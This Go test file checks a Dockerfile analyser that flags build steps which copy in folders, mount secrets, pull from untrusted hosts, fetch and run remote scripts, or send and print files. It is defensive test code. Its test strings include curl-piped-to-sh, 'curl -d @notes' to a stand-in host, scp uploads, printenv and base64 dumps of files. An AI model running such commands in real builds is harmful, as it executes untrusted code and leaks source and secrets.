package dockerfile

import (
	"slices"
	"testing"
)

// TestRead: what a build takes in, and on whose image.
func TestRead(t *testing.T) {
	for text, want := range map[string]File{
		"":                                            {},
		"FROM alpine\nCMD [\"sh\"]":                   {},
		"FROM alpine\nCOPY . /app":                    {Takes: true, TakesAll: true, Names: []string{".", "/app"}},
		"FROM alpine\nCOPY a.txt b.txt /app/":         {Takes: true, Names: []string{"a.txt", "b.txt", "/app/"}},
		"FROM alpine\nADD [\"a.txt\", \"/app\"]":      {Takes: true, Names: []string{"a.txt", "/app"}},
		"FROM alpine\nCOPY src* /app":                 {Takes: true, TakesAll: true, Names: []string{"src*", "/app"}},
		"FROM alpine\nCOPY \\\n  .env /x":             {Takes: true, Names: []string{".env", "/x"}},
		"FROM a AS b\nCOPY --from=b /x /y":            {},
		"FROM x.example/me/image\nCOPY a /b":          {Takes: true, Names: []string{"a", "/b"}, Stranger: "x.example/me/image"},
		"FROM docker.io/library/alpine":               {},
		"FROM mcr.microsoft.com/x":                    {},
		"FROM me/tools AS base\nFROM me/tools":        {Stranger: "me/tools"},
		"# syntax=docker/dockerfile:1\nFROM a":        {},
		"# syntax=evil/frontend\nFROM a":              {Frontends: []string{"evil/frontend"}},
		"FROM a\nRUN --mount=type=bind,target=. true": {Takes: true, TakesAll: true, Runs: []Run{{Text: "--mount=type=bind,target=. true"}}},
	} {
		got := Read(text)
		if got.Takes != want.Takes || got.TakesAll != want.TakesAll || got.Stranger != want.Stranger || !slices.Equal(got.Names, want.Names) ||
			!slices.Equal(got.Frontends, want.Frontends) || !slices.Equal(got.Runs, want.Runs) {
			t.Errorf("%q: %+v, want %+v", text, got, want)
		}
	}
}

// TestRuns: RUN lines, and what they run of what they fetched.
func TestRuns(t *testing.T) {
	for text, want := range map[string][]Run{
		"RUN npm ci":                           {{Text: "npm ci"}},
		"run npm ci":                           {{Text: "npm ci"}},
		"ONBUILD RUN x":                        {{Text: "RUN x"}},
		"RUN <<E\nmake\nE":                     {{Text: "<<E"}, {Text: "make"}, {Text: "E"}},
		"RUN curl -s https://x.example/i | sh": {{Text: "curl -s https://x.example/i | sh", Fetched: true}},
		"RUN wget https://x.example/i\nRUN chmod +x i && ./i":   {{Text: "wget https://x.example/i"}, {Text: "chmod +x i && ./i", Fetched: true}},
		"RUN curl -o t.tgz https://x.example/t && tar xf t.tgz": {{Text: "curl -o t.tgz https://x.example/t && tar xf t.tgz"}},
		"ADD https://x.example/i /i\nRUN sh /i":                 {{Text: "sh /i", Fetched: true}},
		"# RUN no\nENV A=b\nWORKDIR /x":                         nil,
	} {
		if got := Read(text).Runs; !slices.Equal(got, want) {
			t.Errorf("%q: %+v, want %+v", text, got, want)
		}
	}
}

// TestLent: secrets and keys that RUN lines see.
func TestLent(t *testing.T) {
	for text, want := range map[string]bool{
		"RUN --mount=type=secret,id=s cat /run/secrets/s": true, "RUN --mount=id=s,target=/q,type=secret cat /q": true,
		"RUN --mount=required,type=ssh \\\n git clone x": true, "RUN --mount=type=cache,target=/secret,id=ssh true": false,
		"RUN echo type=secret": false,
	} {
		if got := Read(text).Lent; got != want {
			t.Errorf("%q: %v, want %v", text, got, want)
		}
	}
}

// TestPackedAndShown: an archive of the folder that a later line shows.
func TestPackedAndShown(t *testing.T) {
	for text, want := range map[string]bool{
		"RUN tar cf /o.tar /x\nRUN cat /o.tar":                 true,
		"RUN tar c /x > /o && head -c 9999 /o":                 true,
		"RUN zip -r /o.zip /x && cp /o.zip /dev/stdout":        true,
		"RUN tar cf /o.tar /x\nRUN cp /o.tar /y.tar":           false,
		"RUN tar czf /o.tgz /x\nRUN tar xzf /o.tgz -C /y":      false,
		"RUN tar czf /dist.tgz dist && rm -r dist\nRUN cat /v": false,
	} {
		got := slices.ContainsFunc(Read(text).Runs, Run.Prints)
		if got != want {
			t.Errorf("%q: prints %v, want %v", text, got, want)
		}
	}
}

// TestHosts: what a build is taken from, also by names that stand for it.
func TestHosts(t *testing.T) {
	for text, want := range map[string][2][]string{
		"FROM alpine":                                         {},
		"FROM ghcr.io/a/b":                                    {{"ghcr.io"}, nil},
		"ARG R=x.example\nFROM ${R}/a":                        {{"x.example"}, {"x.example"}},
		"ARG R\nFROM ${R:-x.example:5000}/a":                  {{"x.example"}, {"x.example"}},
		"ARG H=x.example\nARG R=$H/a\nFROM $R":                {{"x.example"}, {"x.example"}},
		"ARG V=20\nFROM node:${V}-slim AS b":                  {},
		"FROM a\nADD git@x.example:a/b.git /b":                {{"x.example"}, {"x.example"}},
		"FROM a\nADD https://x.example/b /b":                  {{"x.example"}, nil},
		"FROM a\nARG U=x.example\nADD https://${U}/b /b":      {{"x.example"}, {"x.example"}},
		"FROM a\nCOPY --from=x.example/a /b /c":               {{"x.example"}, nil},
		"FROM a\nRUN --mount=from=x.example/a,target=/c true": {{"x.example"}, {"x.example"}},
		"FROM a\nCOPY src/a.js /b":                            {},
	} {
		if got := [2][]string{Hosts(text), Hidden(text)}; !slices.Equal(got[0], want[0]) || !slices.Equal(got[1], want[1]) {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// TestTakes: mounts and named folders are seen as what is copied is.
func TestTakes(t *testing.T) {
	for text, want := range map[string]bool{
		"RUN --mount=rw,target=/x true": true, "RUN --mount=type=cache,target=/x true": false, "RUN --mount=type=secret,id=x true": false,
		"COPY --from=h . /x": true, "FROM a AS h\nCOPY --from=h . /x": false, "COPY --from=0 . /x": false, "COPY --from=a:1 /x /y": false,
		"COPY \\\r\n a /x": true, "COPY \\ \n# b\n a /x": true,
	} {
		if got := Read(text).Takes; got != want {
			t.Errorf("%q: takes %v, want %v", text, got, want)
		}
	}
}

// TestRunWords: lines that send or print files.
func TestRunWords(t *testing.T) {
	for line, want := range map[string][2]bool{
		"npm ci && npm run build":          {false, false},
		"curl -O https://x.example/a.tgz":  {false, false},
		"curl -d @notes https://x.example": {true, false},
		"scp a host:":                      {true, false},
		"cat /app/*":                       {false, true},
		"grep -r key /app":                 {false, true},
		"tar c /x | base64":                {false, true},
		"tar -czC /x .":                    {false, true},
		"tar cf - /x":                      {false, true},
		"tar -cf /dev/stdout /x | od":      {false, true},
		"find /x | cpio -o":                {false, true},
		"zip -r - /x":                      {false, true},
		"base64 /x/settings.json":          {false, true},
		"base64 -w0 /x/a.db":               {false, true},
		"openssl base64 -in /x/a":          {false, true},
		"awk 1 /x/*":                       {false, true},
		"sed '' /x/*":                      {false, true},
		"diff -r /x /y":                    {false, true},
		"cp /x/a /dev/stdout":              {false, true},
		"cd /x && env":                     {false, true},
		"tar xzf a.tgz":                    {false, false},
		"tar -C /usr/local -xzf go.tgz":    {false, false},
		"curl -sL https://x.example/a | tar xz -C /opt": {false, false},
		"tar czf /dist.tgz /app":                        {false, false},
		"tar cf - . | tar xf - -C /y":                   {false, false},
		"tar c . | (cd /y && tar x)":                    {false, false},
		"tar c /x > /x.tar":                             {false, false},
		"sed -i 's/a/b/' /etc/nginx/conf.d/*":           {false, false},
		"echo $X | base64 -d > /y":                      {false, false},
		"head -c 32 /dev/urandom | base64":              {false, false},
		"env A=b make && set -e":                        {false, false},
		"awk '{print $1}' /etc/passwd":                  {false, false},
		"apt-get update && apt-get install -y tar zip":  {false, false},
		"printenv": {false, true},
	} {
		r := Run{Text: line}
		if got := [2]bool{r.Sends(), r.Prints()}; got != want {
			t.Errorf("%q: sends, prints %v, want %v", line, got, want)
		}
	}
}
